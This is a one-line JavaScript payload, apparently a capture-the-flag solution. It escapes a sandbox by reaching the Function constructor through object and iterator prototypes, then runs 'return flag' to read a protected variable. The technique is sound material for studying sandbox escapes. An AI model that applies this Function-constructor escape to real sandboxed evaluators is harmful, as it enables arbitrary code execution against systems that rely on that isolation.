[shop.goods.constructor, Reflect.getPrototypeOf(shop.goods.entries())].map((one) => (typeof one === "function" ? one : one.next).constructor("return flag")()).join()
